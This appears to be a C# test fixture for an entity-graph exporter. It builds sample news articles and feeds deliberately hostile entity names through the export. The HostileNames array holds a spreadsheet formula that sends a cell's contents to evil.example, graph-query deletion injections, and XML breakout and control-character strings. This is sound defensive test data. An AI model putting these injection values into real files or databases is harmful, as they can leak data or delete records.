using System.Globalization;
using EntityGraph.Storage.Conformance;

namespace EntityGraph.Transfer.Tests.Exporting;

/// <summary>A graph whose names try what a careless exporter would get wrong, and what it should look like in a file.</summary>
internal static class Debate
{
    public static readonly string[] HostileNames =
    [
        "=HYPERLINK(\"http://evil.example/?\"&B2)", "+1 Campaign", "@Home", "O'Brien \\ Sons", "\\u0027}) DETACH DELETE e //", "</node><node id=\"x\">",
        "Zoë 🦊, \"The Fox\"; Ñandú", "Bell\u0001 and\u0085 Whistle", "]]> & &amp; <!--", "مرحبا\u202e", "Line\nbreak; \u2028 Ltd", "'); DROP (n) \\'",
    ];

    public static readonly string Ada = ContentId.OfEntity(EntityType.Person, "Ada Byrne");
    public static readonly string Ben = ContentId.OfEntity(EntityType.Person, "Ben Cole");
    public static readonly string Mill = ContentId.OfEntity(EntityType.Organisation, "Mill Ltd");
    public static readonly string Leeds = ContentId.OfEntity(EntityType.Place, "Leeds");

    public static Task<TemporaryStore> StoreAsync() => TemporaryStore.OfAsync([.. Articles()]);

    public static IEnumerable<ArticleBuilder> Articles()
    {
        yield return An.Article("Ada Byrne said that Ben Cole of Mill Ltd lied in Leeds. Nobody asked why.")
            .Titled("Lies, \"all\" lies").In("The Post").On("2025-03-01").At("https://post.example/1?a=b&c=d").Written("en")
            .Person("Ada Byrne").Person("Ben Cole").Organisation("Mill Ltd").Place("Leeds")
            .Says("Ada Byrne", "said", "that Ben Cole of Mill Ltd lied in Leeds", confidence: 0.8);
        yield return An.Article("\"Ada Byrne is wrong,\" said Ben Cole.").In("The Mail").On("2025-03-05")
            .Person("Ada Byrne").Person("Ben Cole").Says("Ben Cole", "said", "\"Ada Byrne is wrong,\"", confidence: 0.95);
        // Without a day, so that nothing in it has one.
        foreach (var name in HostileNames)
            yield return An.Article($"Ada Byrne said that {name} lied.").Person("Ada Byrne").Organisation(name).Says("Ada Byrne", "said", $"that {name} lied", confidence: 1.0);
    }

    public static async Task<string[]> NodesAsync(IGraphStore store, Func<string, string>? changed = null)
    {
        var lines = new List<string>();
        await foreach (var node in store.AllNodesAsync())
            lines.Add(Line(node.Id, (changed ?? (n => n))(node.Name), node.Type, node.MentionedBy, node.Said, node.Articles, node.First, node.Last));
        return Sorted(lines);
    }

    public static async Task<string[]> EdgesAsync(IGraphStore store, MentionFilter? filter = null)
    {
        var lines = new List<string>();
        await foreach (var edge in store.AllEdgesAsync(filter ?? new MentionFilter()))
            lines.Add(EdgeLine(edge));
        return Sorted(lines);
    }

    /// <summary>A name as XML can hold it.</summary>
    public static string XmlText(string name) => name.Replace('\u0001', '\ufffd').Replace('\u0085', '\ufffd').Replace('\u2028', '\ufffd');

    public static string EdgeLine(GraphEdge edge) =>
        Line(edge.Id, edge.Source, edge.Target, edge.Kind, edge.Count, edge.Articles, edge.Confidence, edge.First, edge.Last);

    public static string Line(params object?[] values) => string.Join('|', values.Select(v => v switch
    {
        DateOnly day => day.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
        IFormattable number => number.ToString(null, CultureInfo.InvariantCulture),
        _ => v?.ToString(),
    }));

    public static string[] Sorted(IEnumerable<string> lines) => [.. lines.Order(StringComparer.Ordinal)];

    public static async Task<byte[]> ExportAsync(this IGraphStore store, ExportFormat format, ExportQuery? query = null)
    {
        using var output = new MemoryStream();
        await GraphExport.WriteAsync(store, format, query ?? new ExportQuery(), output);
        return output.ToArray();
    }
}
